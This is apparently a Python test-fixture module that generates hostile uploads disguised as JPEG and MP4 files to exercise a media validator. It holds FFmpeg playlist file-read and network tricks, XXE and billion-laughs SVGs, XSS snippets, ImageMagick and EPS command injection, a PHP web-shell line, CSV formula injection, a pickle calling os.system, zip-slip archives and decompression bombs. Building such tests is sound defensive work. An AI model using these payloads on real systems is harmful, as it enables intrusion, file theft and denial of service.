"""Files of types that we do not take, under names that we would."""

import gzip
import io
import tarfile
import zipfile

from PIL import Image

from tests.media.hostile.parts import Case, dice, encoded, noise, picture, png, stream

NAMES = ("photo.jpg", "clip.mp4")
MAGICS = {
    "jpg": b"\xff\xd8\xff\xe0",
    "png": b"\x89PNG\r\n\x1a\n",
    "webp": b"RIFF\x40\0\0\0WEBPVP8 ",
    "avif": b"\0\0\0\x20ftypavif",
    "mp4": b"\0\0\0\x18ftypisom",
    "mov": b"\0\0\0\x14ftypqt  ",
    "m4a": b"\0\0\0\x14ftypM4A ",
    "webm": b"\x1aE\xdf\xa3",
    "wav": b"RIFF\x40\0\0\0WAVEfmt ",
    "mp3": b"ID3\x04\0\0\0\0\0\0",
    "frame": b"\xff\xfb\x90\x00",
    "ogg": b"OggS\0\x02",
}


def texts(secret: str, net: str) -> dict[str, bytes]:
    """What makes FFmpeg open another file or the net, and other words that a browser or a shell would obey."""
    return {
        name: words.encode()
        for name, words in {
            "file.m3u8": f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile://{secret}\n#EXT-X-ENDLIST\n",
            "net.m3u8": f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{net}/a.ts\n#EXT-X-ENDLIST\n",
            "key.m3u8": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{net}/key"\n#EXTINF:1,\n{net}/a.ts\n',
            "concat.m3u8": f"#EXTM3U\n#EXTINF:1,\nconcat:{net}/head|file://{secret}\n#EXT-X-ENDLIST\n",
            "subfile.m3u8": f"#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,64,,:{secret}\n#EXT-X-ENDLIST\n",
            "data.m3u8": "#EXTM3U\n#EXTINF:1,\ndata:video/mp4;base64,AAAA\n",
            "list.ffconcat": f"ffconcat version 1.0\nfile {secret}\n",
            "net.ffconcat": f"ffconcat version 1.0\nfile {net}/a.mp4\nduration 1\n",
            "list.txt": f"file '{secret}'\n",
            "a.mpd": f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet>'
            f"<Representation "
            f'id="1"><BaseURL>{net}/a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>',
            "a.ism": f'<SmoothStreamingMedia><StreamIndex Url="{net}"/></SmoothStreamingMedia>',
            "a.asx": f'<asx version="3.0"><entry><ref href="{net}/a"/></entry></asx>',
            "a.sdp": f"v=0\ns=x\nc=IN IP4 127.0.0.1\nm=video {net.rpartition(':')[2]} RTP/AVP 96\n",
            "a.avs": f'AviSource("{secret}")\n',
            "a.vpy": "import os\nos.system('id')\n",
            "a.pls": f"[playlist]\nFile1={net}/a.mp3\n",
            "a.smil": f'<smil><body><video src="{net}/a.mp4"/></body></smil>',
            "a.xspf": f'<?xml version="1.0"?><playlist><track><location>{net}</location></track></playlist>',
            "a.srt": "1\n00:00:00,000 --> 00:00:01,000\n<font face='x'>words</font>\n",
            "a.vtt": "WEBVTT\n\n00:00.000 --> 00:01.000\nwords\n",
            "a.ass": "[Script Info]\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,,,0,0,0,,{\\fnx}words\n",
            "a.sub": "{0}{25}words\n",
            "a.idx": "# VobSub index file, v7\nid: en, index: 0\n",
            "a.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
            "net.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{net}/a.png'/></svg>",
            "entity.svg": f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://{secret}'>]><svg>&x;</svg>",
            "laughs.svg": "<!DOCTYPE s [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]><svg>&b;</svg>",
            "a.html": "<!DOCTYPE html><script>alert(document.cookie)</script>",
            "a.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
            "a.pdf": "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n",
            "a.eps": "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9999999 9999999\n(%pipe%id) (r) file\n",
            "a.mvg": f"push graphic-context\nviewbox 0 0 640 480\nfill 'url({net}/|id)'\npop graphic-context\n",
            "a.msl": f"<image><read filename='{secret}'/><write filename='/tmp/x.php'/></image>",
            "a.xpm": '/* XPM */ static char *a[] = {"1000000 1000000 2 1"};',
            "a.xbm": "#define a_width 100000\n#define a_height 100000\nstatic char a_bits[] = {0};",
            "a.ppm": "P3 99999 99999 255 0 0 0\n",
            "a.pgmyuv": "P5 99999 99999 255\n",
            "a.hdr": "#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 99999 +X 99999\n",
            "a.php": "<?php system($_GET['c']); ?>",
            "a.sh": "#!/bin/sh\ncat /etc/passwd\n",
            "a.json": '{"a": 1}',
            "a.css": "body{background:url(//x)}",
            "a.csv": "=cmd|'/C calc'!A0\n",
            "a.txt": "hello\n",
            "a.eml": "From: a@b\nSubject: x\n\nhi\n",
            "a.url": f"[InternetShortcut]\nURL={net}\n",
            "a.desktop": "[Desktop Entry]\nExec=id\n",
        }.items()
    }


def binaries() -> dict[str, bytes]:
    """Real files of other types, and heads of those that nothing here can write."""
    image = noise()
    return {
        **{
            f"a.{name}": encoded(image, format_)
            for name, format_ in (
                ("gif", "GIF"),
                ("bmp", "BMP"),
                ("tiff", "TIFF"),
                ("ico", "ICO"),
                ("ppm", "PPM"),
                ("tga", "TGA"),
                ("pcx", "PCX"),
                ("sgi", "SGI"),
                ("dds", "DDS"),
                ("pdf", "PDF"),
                ("eps", "EPS"),
                ("jp2", "JPEG2000"),
            )
        },
        "pages.tiff": encoded(image, "TIFF", save_all=True, append_images=[image] * 30),
        "big.tiff": encoded(image, "TIFF", big_tiff=True),
        "float.tiff": encoded(Image.new("F", (8, 8)), "TIFF"),
        "frames.gif": encoded(
            Image.new("P", (4, 4)),
            "GIF",
            save_all=True,
            append_images=[Image.new("P", (4, 4), n % 9 + 1) for n in range(2000)],
        ),
        "huge.gif": b"GIF89a\xff\xff\xff\xff\xf0\0\0" + b"\0" * 900 + b"\x2c\0\0\0\0\xff\xff\xff\xff\0\x08\x02\0\0;",
        "looping.tiff": b"II*\0\x08\0\0\0\x01\0\0\x01\x03\0\x01\0\0\0\x40\0\0\0\x08\0\0\0",
        **{name: stream(name) for name in ("a.flac", "a.aiff", "a.aac", "a.avi", "a.ts", "a.flv")},
        "a.zip": zipped(),
        "a.tar": tarred(),
        "bomb.gz": gzip.compress(bytes(2_000_000)),
        "bomb.zip": zipped(bytes(5_000_000)),
        "a.bz2": b"BZh91AY&SY" + b"\0" * 40,
        "a.xz": b"\xfd7zXZ\0" + b"\0" * 40,
        "a.7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 40,
        "a.rar": b"Rar!\x1a\x07\x01\0" + b"\0" * 40,
        "a.zst": b"\x28\xb5\x2f\xfd" + b"\0" * 40,
        "a.elf": b"\x7fELF" + b"\x02" * 60,
        "a.exe": b"MZ\x90\0" + b"\0" * 60,
        "a.class": b"\xca\xfe\xba\xbe" + b"\0" * 40,
        "a.wasm": b"\0asm\x01\0\0\0" + b"\0" * 40,
        "a.heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 200,
        "a.mif1": b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic" + b"\0" * 200,
        "a.jxl": b"\xff\x0a" + b"\0" * 60,
        "a.psd": b"8BPS\0\x01" + b"\0" * 60,
        "a.exr": b"v/1\x01" + b"\0" * 60,
        "a.amr": b"#!AMR\n" + b"\0" * 60,
        "a.mid": b"MThd\0\0\0\x06" + b"\0" * 60,
        "a.caf": b"caff\0\x01" + b"\0" * 60,
        "a.wma": bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c") + b"\0" * 60,
        "a.ape": b"MAC \x96\x0f" + b"\0" * 60,
        "a.swf": b"FWS\x09" + b"\0" * 60,
        "a.woff": b"wOFF" + b"\0" * 60,
        "a.db": b"SQLite format 3\0" + b"\0" * 60,
        "a.pickle": b"\x80\x04cos\nsystem\n",
        "a.utf16": "привет".encode("utf-16"),
        "a.bin": bytes(4096),
        "a.rf64": b"RF64\xff\xff\xff\xffWAVEds64" + b"\0" * 60,
        "a.cdr": b"RIFF\x40\0\0\0CDRDfver",
        "a.avi": b"RIFF\x40\0\0\0AVI LIST",
        "a.wmf": b"\xd7\xcd\xc6\x9a" + b"\0" * 60,
        "a.emf": b"\x01\0\0\0\x6c\0\0\0" + b"\0" * 60,
        "a.mpg": b"\0\0\x01\xba" + b"\0" * 60,
    }


def zipped(content: bytes = b"hello") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../etc/cron.d/x", content)
    return file.getvalue()


def tarred() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        archive.add("/dev/null", "../x")
    return file.getvalue()


def other_types(secret: str, net: str) -> list[Case]:
    """Each under a picture's and a clip's name; the last with nothing in it at all."""
    files = {**texts(secret, net), **binaries()}
    found = [Case("other type", f"{inner}.{name}", content) for inner, content in files.items() for name in NAMES]
    return [*found, *(Case("nothing in it", f"empty.{ending}", b"") for ending in MAGICS)]


def dressed(secret: str, net: str) -> list[Case]:
    """Playlists behind the first bytes of what we take: FFmpeg would look further than the first bytes."""
    lists = ("file.m3u8", "net.m3u8", "list.ffconcat", "net.ffconcat", "a.mpd", "a.sdp")
    words = texts(secret, net)
    return [
        Case("dressed playlist", f"{name}.{ending}", magic + b"\n" + words[name] * 4)
        for ending, magic in MAGICS.items()
        for name in lists
    ]


def garbage() -> list[Case]:
    """The first bytes of what we take, and then nothing that belongs there."""
    rng = dice("garbage")
    return [
        Case("garbage", f"{number}.{ending}", magic + rng.randbytes(rng.choice((0, 1, 20, 500, 9000))))
        for ending, magic in MAGICS.items()
        for number in range(6)
        if ending != "frame"  # a sound of noise is still a sound where frames are looked for by their sync
    ]


def polyglots() -> list[Case]:
    """Two files in one. What begins as somebody else's is refused; what begins as a picture may come in, washed."""
    jpeg, image = picture("JPEG"), png()
    foreign = {
        "pdf+jpg.jpg": b"%PDF-1.4\n" + jpeg,
        "zip+png.png": zipped() + image,
        "gif+html.gif": b"GIF89a/*<script>*/=1;alert(1)//" + b"\0" * 50,
        "html+gif.html": b"<script>alert(1)</script>GIF89a",
        "bmp+js.bmp": b"BM=1;alert(1)//" + b"\0" * 50,
        "svg+jpg.jpg": b"<svg onload='alert(1)'/>" + jpeg,
        "php+png.png": b"<?php id(); ?>" + image,
        "sh+mp4.mp4": b"#!/bin/sh\n" + stream("a.mp4"),
        "text+wav.wav": b"hello" + stream("a.wav"),
        "space+png.png": b" " + image,
        "bom+jpg.jpg": b"\xef\xbb\xbf" + jpeg,
    }
    tails = {
        "zip": zipped(),
        "html": b"<script>alert(1)</script>",
        "pdf": b"%PDF-1.4 trailer",
        "php": b"<?php id(); ?>",
        "mp4": stream("a.mp4"),
    }
    bodies = {"jpg": jpeg, "png": image, "webp": picture("WEBP"), "mp4": stream("a.mp4"), "mp3": stream("a.mp3")}
    washed = [
        Case("polyglot", f"{tail}.{ending}", body + end, may_stay=True)
        for ending, body in bodies.items()
        for tail, end in tails.items()
    ]
    return [*(Case("polyglot", name, content) for name, content in foreign.items()), *washed]
